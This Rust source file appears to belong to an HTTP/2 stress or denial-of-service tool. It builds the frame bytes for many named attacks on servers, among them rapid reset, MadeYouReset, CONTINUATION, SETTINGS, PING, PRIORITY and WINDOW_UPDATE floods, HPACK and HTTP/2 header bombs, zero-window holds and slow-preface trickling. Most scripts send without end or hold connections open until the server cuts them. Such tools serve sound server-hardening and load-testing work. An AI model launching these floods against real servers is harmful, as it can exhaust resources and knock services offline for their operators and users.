//! The bytes of each attack over HTTP/2 (RFC 9113), cleartext and with prior knowledge.
//!
//! What is sent without end waits for the server by TCP's flow control: the attacker is as fast as
//! what it attacks, and open until it is cut.

use super::{PIECE_BYTES, Wire, repeat};
use crate::attack::script::{Script, Step, Streams};
use crate::h2::fields::{self, index};
use crate::h2::{
    PAYLOAD_BYTES_MAX, PREFACE, WINDOW_INITIAL, WINDOW_MAX, code, data, flag, frame, headers, kind,
    ping, priority, rst_stream, setting, settings, window_update,
};

/// Streams that are sent in one piece where each brings little.
const RUN_STREAMS: u32 = 1000;
/// The same where each brings a frame or more of fields.
const GIANT_STREAMS: u32 = 4;
/// Streams that a connection holds open: what servers should allow at least (§6.5.2).
const HELD_STREAMS: u32 = 100;
/// DATA frames of one byte on a connection: most of the window that every server opens with. A
/// server that reads what comes may open more, but no attacker should rely on it.
const TINY_FRAMES: u32 = WINDOW_INITIAL - 5535;
/// Fields in a list that stays below what servers usually allow.
const MODEST_FIELDS: usize = 64;
/// A value that fills the dynamic table (4096 bytes, of which an entry takes 32 for itself).
const TABLE_VALUE_BYTES: usize = 4000;
/// Leaves room in a frame for the pseudo-header fields.
const BLOCK_BYTES: usize = PAYLOAD_BYTES_MAX - 2048;

impl Wire<'_> {
    fn get_block(&self) -> Vec<u8> {
        fields::request(false, &self.host, self.path)
    }

    fn post_block(&self) -> Vec<u8> {
        fields::request(true, &self.host, self.path)
    }

    /// A whole request.
    fn get_stream(&self, id: u32) -> Vec<u8> {
        headers(flag::END_STREAM, id, &self.get_block())
    }

    /// A request whose content is to come.
    fn post_stream(&self, id: u32) -> Vec<u8> {
        headers(0, id, &self.post_block())
    }
}

/// Preface and SETTINGS. The table size lets us read each status without a decoder.
fn opening(more: &[(u16, u32)]) -> Vec<u8> {
    let own = [(setting::HEADER_TABLE_SIZE, 0), (setting::ENABLE_PUSH, 0)];
    [PREFACE, &settings(&[&own, more].concat())].concat()
}

/// What each of so many streams sends, one after the other.
fn run(streams: u32, send: impl FnMut(u32) -> Vec<u8>) -> Vec<u8> {
    run_from(1, streams, send)
}

fn run_from(first: u32, streams: u32, mut send: impl FnMut(u32) -> Vec<u8>) -> Vec<u8> {
    let mut bytes = Vec::new();
    for number in 0..streams {
        bytes.extend(send(first + 2 * number));
    }
    bytes
}

/// Streams without end, as fast as possible.
fn streams(variant: &'static str, send: impl FnMut(u32) -> Vec<u8>) -> Script {
    let run = Streams::new(run(RUN_STREAMS, send), RUN_STREAMS);
    Script::http2(
        variant,
        vec![Step::Send(opening(&[])), Step::SendStreamsForever(run)],
    )
}

/// Sends this once, as fast as possible, and waits until the server has read it to the end.
fn once(variant: &'static str, begin: Vec<u8>, then: Vec<u8>) -> Script {
    let steps = vec![
        Step::Send(begin),
        Step::Send(then),
        Step::Finish,
        Step::Stay,
    ];
    // Nothing may follow the end.
    Script::http2(variant, steps).unacknowledged()
}

/// Sends this again and again, as fast as possible.
fn forever(variant: &'static str, begin: Vec<u8>, unit: &[u8]) -> Script {
    let piece = repeat(unit, PIECE_BYTES);
    Script::http2(variant, vec![Step::Send(begin), Step::SendForever(piece)])
}

/// Waits to be cut.
fn held(variant: &'static str, begin: Vec<u8>) -> Script {
    Script::http2(variant, vec![Step::Send(begin), Step::Stay])
}

/// Sends this once in a while.
fn slow(variant: &'static str, begin: Vec<u8>, each_period: Vec<u8>) -> Script {
    Script::http2(
        variant,
        vec![Step::Send(begin), Step::SendEachPeriod(each_period)],
    )
}

pub(super) fn rapid_reset(wire: &Wire<'_>) -> Vec<Script> {
    let cancel = |id| rst_stream(id, code::CANCEL);
    let whole = |id| [wire.get_stream(id), cancel(id)].concat();
    let unfinished = |id| [wire.post_stream(id), cancel(id)].concat();
    // All requests of a batch are under way before the first is reset.
    let requests = run(HELD_STREAMS, |id| wire.get_stream(id));
    let batch = [requests, run(HELD_STREAMS, cancel)].concat();
    let batches = Step::SendStreamsForever(Streams::new(batch, HELD_STREAMS));
    vec![
        streams("whole", whole),
        streams("unfinished", unfinished),
        Script::http2("batches", vec![Step::Send(opening(&[])), batches]),
        streams("unread", whole).unread(),
    ]
}

/// Each second frame is a stream error (§5.4.2), or the first one is.
pub(super) fn made_you_reset(wire: &Wire<'_>) -> Vec<Script> {
    let provoked = |variant, frame: fn(&Wire<'_>, u32) -> Vec<u8>| {
        streams(variant, |id| {
            [wire.get_stream(id), frame(wire, id)].concat()
        })
    };
    let mut malformed = wire.get_block();
    fields::put_known(&mut malformed, index::CONTENT_LENGTH, b"5");
    vec![
        provoked("window-zero", |_, id| window_update(id, 0)),
        provoked("window-overflow", |_, id| window_update(id, WINDOW_MAX)),
        provoked("data-after-end", |_, id| data(0, id, b"x")),
        provoked("headers-after-end", |wire, id| wire.get_stream(id)),
        provoked("priority-length", |_, id| {
            frame(kind::PRIORITY, 0, id, &[0; 4])
        }),
        provoked("priority-itself", |_, id| priority(id, id)),
        streams("malformed", |id| headers(flag::END_STREAM, id, &malformed)),
    ]
}

pub(super) fn continuation_flood(wire: &Wire<'_>) -> Vec<Script> {
    let begun = [
        opening(&[]),
        frame(kind::HEADERS, flag::END_STREAM, 1, &wire.get_block()),
    ]
    .concat();
    let in_trailers = [
        opening(&[]),
        wire.post_stream(1),
        data(0, 1, b"x"),
        frame(kind::HEADERS, flag::END_STREAM, 1, b""),
    ]
    .concat();
    let mut field = Vec::new();
    fields::put_literal(&mut field, b"x-a", b"b");
    let full = repeat(&field, PAYLOAD_BYTES_MAX - field.len());
    let references = vec![fields::indexed(index::ACCEPT_ENCODING); PAYLOAD_BYTES_MAX];
    let flood = |variant, begun: &[u8], fragment: &[u8]| {
        let unit = frame(kind::CONTINUATION, 0, 1, fragment);
        // Nothing else may come between fragments.
        forever(variant, begun.to_vec(), &unit).unacknowledged()
    };
    vec![
        flood("full", &begun, &full),
        flood("references", &begun, &references),
        flood("tiny", &begun, &field),
        flood("empty", &begun, b""),
        flood("trailers", &in_trailers, &full),
    ]
}

pub(super) fn settings_flood(wire: &Wire<'_>) -> Vec<Script> {
    let empty = settings(&[]);
    // Each changes the window of each stream that waits with content.
    let shut = opening(&[(setting::INITIAL_WINDOW_SIZE, 0)]);
    let waiting = [shut, run(HELD_STREAMS, |id| wire.get_stream(id))].concat();
    let changes = [
        (setting::INITIAL_WINDOW_SIZE, 1),
        (setting::INITIAL_WINDOW_SIZE, 0),
    ];
    let many = settings(&changes.repeat(PAYLOAD_BYTES_MAX / 12));
    vec![
        forever("empty", opening(&[]), &empty),
        forever("unread", opening(&[]), &empty).unread(),
        forever("window-sizes", waiting, &many),
        forever(
            "acknowledgements",
            opening(&[]),
            &frame(kind::SETTINGS, flag::ACK, 0, b""),
        ),
    ]
}

pub(super) fn ping_flood() -> Vec<Script> {
    vec![
        forever("read", opening(&[]), &ping(0)),
        forever("unread", opening(&[]), &ping(0)).unread(),
        forever("acknowledgements", opening(&[]), &ping(flag::ACK)),
    ]
}

pub(super) fn priority_flood(wire: &Wire<'_>) -> Vec<Script> {
    let open = [opening(&[]), wire.post_stream(1)].concat();
    // A stream may not depend on itself, but on one that nobody has opened.
    let one = [priority(1, 3), priority(1, 0)].concat();
    // A chain, and then its last link above the first: a tree would be turned over each time.
    let mut chain = run(HELD_STREAMS, |id| priority(id, id.saturating_sub(2)));
    chain.extend(priority(1, 2 * HELD_STREAMS - 1));
    let update = run(HELD_STREAMS, |id| {
        let payload = [&id.to_be_bytes(), &b"u=1, i"[..]].concat();
        frame(kind::PRIORITY_UPDATE, 0, 0, &payload)
    });
    vec![
        forever("one-stream", open, &one),
        forever("idle-streams", opening(&[]), &chain),
        forever("updates", opening(&[]), &update),
    ]
}

/// By one, so that no window overflows within two thousand million of them.
pub(super) fn window_update_flood(wire: &Wire<'_>) -> Vec<Script> {
    let one = [opening(&[]), wire.post_stream(1)].concat();
    let streams = run(HELD_STREAMS, |id| wire.post_stream(id));
    let many = [opening(&[]), streams].concat();
    let updates = run(HELD_STREAMS, |id| window_update(id, 1));
    vec![
        forever("connection", opening(&[]), &window_update(0, 1)),
        forever("one-stream", one, &window_update(1, 1)),
        forever("many-streams", many, &updates),
    ]
}

pub(super) fn empty_frames(wire: &Wire<'_>) -> Vec<Script> {
    let one = [opening(&[]), wire.post_stream(1)].concat();
    let streams = run(HELD_STREAMS, |id| wire.post_stream(id));
    let many = [opening(&[]), streams].concat();
    vec![
        forever("one-stream", one, &data(0, 1, b"")),
        forever(
            "many-streams",
            many,
            &run(HELD_STREAMS, |id| data(0, id, b"")),
        ),
        forever(
            "unknown-type",
            opening(&[]),
            &frame(kind::UNKNOWN, 0, 0, b""),
        ),
    ]
}

pub(super) fn tiny_data(wire: &Wire<'_>) -> Vec<Script> {
    let one = [opening(&[]), wire.post_stream(1)].concat();
    let streams = run(HELD_STREAMS, |id| wire.post_stream(id));
    let many = [opening(&[]), streams].concat();
    let round = run(HELD_STREAMS, |id| data(0, id, b"x"));
    let rounds = (TINY_FRAMES / HELD_STREAMS) as usize;
    vec![
        once(
            "one-stream",
            one,
            data(0, 1, b"x").repeat(TINY_FRAMES as usize),
        ),
        once("many-streams", many, round.repeat(rounds)),
    ]
}

/// Each request has a block of a frame or more; the first one fills the table, if it is used.
pub(super) fn hpack_bomb(wire: &Wire<'_>) -> Vec<Script> {
    let bomb = |variant, first: &[u8], more: &[u8]| {
        let request = |id, block: &[u8]| {
            let block = [&*wire.get_block(), block].concat();
            headers(flag::END_STREAM, id, &block)
        };
        let begin = [opening(&[]), request(1, first)].concat();
        let run = run_from(3, GIANT_STREAMS, |id| request(id, more));
        let run = Streams::new(run, GIANT_STREAMS);
        Script::http2(
            variant,
            vec![Step::Send(begin), Step::SendStreamsForever(run)],
        )
    };
    let value = [b'x'; TABLE_VALUE_BYTES];
    let references = [fields::indexed(index::NEWEST); BLOCK_BYTES];
    let (mut entry, mut cookie) = (Vec::new(), Vec::new());
    fields::put_into_table(&mut entry, b"x-a", &value);
    fields::put_into_table(&mut cookie, b"cookie", &value);
    let mut literals = Vec::new();
    for _ in 0..16 {
        fields::put_literal(&mut literals, b"x-large", &value);
    }
    let mut huffman = Vec::new();
    fields::put_huffman_zeros(&mut huffman, b"x-huffman", BLOCK_BYTES / 5);
    let tiny = [fields::indexed(index::ACCEPT_ENCODING); BLOCK_BYTES];
    vec![
        bomb("references", &entry, &references),
        bomb("cookies", &cookie, &references),
        bomb("static", &tiny, &tiny),
        bomb("literals", &literals, &literals),
        bomb("huffman", &huffman, &huffman),
    ]
}

/// References to fields that are next to nothing, so that no bound on bytes is met; the requests
/// are held because their answers cannot leave. A byte more of window now and then looks alive.
pub(super) fn http2_bomb(wire: &Wire<'_>) -> Vec<Script> {
    let bomb = |variant, name: &[u8], count: usize| {
        let mut first = wire.get_block();
        fields::put_into_table(&mut first, name, b"");
        let references = vec![fields::indexed(index::NEWEST); count];
        first.extend_from_slice(&references);
        let more = [wire.get_block(), references].concat();
        let streams = run(HELD_STREAMS, |id| {
            let block = if id == 1 { &first } else { &more };
            headers(flag::END_STREAM, id, block)
        });
        let shut = opening(&[(setting::INITIAL_WINDOW_SIZE, 0)]);
        slow(variant, [shut, streams].concat(), window_update(0, 1))
    };
    vec![
        bomb("fields", b"a", BLOCK_BYTES),
        bomb("cookies", b"cookie", BLOCK_BYTES),
        bomb("modest-fields", b"a", MODEST_FIELDS),
        bomb("modest-cookies", b"cookie", MODEST_FIELDS),
    ]
}

pub(super) fn zero_window(wire: &Wire<'_>) -> Vec<Script> {
    let requests = run(HELD_STREAMS, |id| wire.get_stream(id));
    let shut = opening(&[(setting::INITIAL_WINDOW_SIZE, 0)]);
    let shut = [shut, requests.clone()].concat();
    // Streams could send anything, if the connection were not full.
    let wide = opening(&[(setting::INITIAL_WINDOW_SIZE, WINDOW_MAX)]);
    let full = [wide, requests].concat();
    let dribble = run(HELD_STREAMS, |id| window_update(id, 1));
    vec![
        held("streams", shut.clone()),
        held("connection", full),
        slow("pings", shut.clone(), ping(0)),
        slow("dribble", shut, dribble),
    ]
}

pub(super) fn stream_flood(wire: &Wire<'_>) -> Vec<Script> {
    vec![
        streams("unfinished", |id| wire.post_stream(id)),
        streams("whole", |id| wire.get_stream(id)),
        streams("unread", |id| wire.get_stream(id)).unread(),
    ]
}

pub(super) fn unfinished_streams(wire: &Wire<'_>) -> Vec<Script> {
    let open = run(HELD_STREAMS, |id| wire.post_stream(id));
    let open = [opening(&[]), open].concat();
    let content = run(HELD_STREAMS, |id| data(0, id, b"hello"));
    let bytes = run(HELD_STREAMS, |id| data(0, id, b"x"));
    let half_block = [opening(&[]), frame(kind::HEADERS, 0, 1, &wire.get_block())].concat();
    vec![
        held("no-content", open.clone()),
        held("some-content", [open.clone(), content].concat()),
        slow("slow-content", open.clone(), bytes),
        slow("pings", open, ping(0)),
        held("half-block", half_block).unacknowledged(),
    ]
}

pub(super) fn slow_preface(wire: &Wire<'_>) -> Vec<Script> {
    let opening = opening(&[]);
    let (preface, settings) = opening.split_at(PREFACE.len());
    let pings = || Step::TrickleForever(ping(0));
    // A frame that takes hours.
    let mut block = wire.get_block();
    fields::put_literal(&mut block, b"x-slow", &[b'x'; BLOCK_BYTES]);
    let request = headers(flag::END_STREAM, 1, &block);
    vec![
        Script::http2("every-byte", vec![Step::Trickle(opening.clone()), pings()]),
        Script::http2(
            "settings",
            vec![
                Step::Send(preface.to_vec()),
                Step::Trickle(settings.to_vec()),
                pings(),
            ],
        )
        // An acknowledgement must not come before our own SETTINGS.
        .unacknowledged(),
        Script::http2(
            "request",
            vec![
                Step::Send(opening.clone()),
                Step::Trickle(request),
                Step::Stay,
            ],
        ),
        held("silent", opening.clone()),
        slow("pings", opening, ping(0)),
    ]
}
